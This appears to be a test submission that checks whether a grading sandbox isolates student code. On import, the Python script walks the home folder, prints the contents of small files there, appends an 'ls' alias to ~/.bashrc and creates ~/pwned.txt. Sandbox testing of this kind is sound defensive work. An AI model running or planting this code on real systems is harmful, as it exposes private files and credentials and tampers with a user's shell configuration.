# ATTACK (machine): the instructor's home. Lists ~ (from HOME), prints every small file it finds there,
# then appends a line to ~/.bashrc and drops ~/pwned.txt.
# A secure grader: the learner's process sees no home folder; every file there is unchanged, none is
# added, and nothing read there appears anywhere in the --out folder.
import os


def _raid():
    home = os.path.expanduser("~")
    hits = []
    for root, dirs, files in os.walk(home):
        if root[len(home):].count(os.sep) >= 3:
            dirs[:] = []
        for name in files[:50]:
            p = os.path.join(root, name)
            try:
                if os.path.getsize(p) <= 65536:
                    with open(p, errors="replace") as f:
                        text = f.read()
                    hits.append((p, text))
            except OSError:
                continue
    print(f"ATTACK read_home: HOME={home}, {len(hits)} files read", flush=True)
    for p, text in hits:
        print(f"ATTACK read_home: {p}: {text[:300]!r}", flush=True)
    try:
        with open(os.path.join(home, ".bashrc"), "a") as f:
            f.write("\n# added by a submission\nalias ls='echo pwned'\n")
        with open(os.path.join(home, "pwned.txt"), "w") as f:
            f.write("a submission was here\n")
        print("ATTACK read_home: wrote ~/.bashrc and ~/pwned.txt", flush=True)
    except OSError as exc:
        print(f"ATTACK read_home: could not write the home folder: {exc}", flush=True)


_raid()
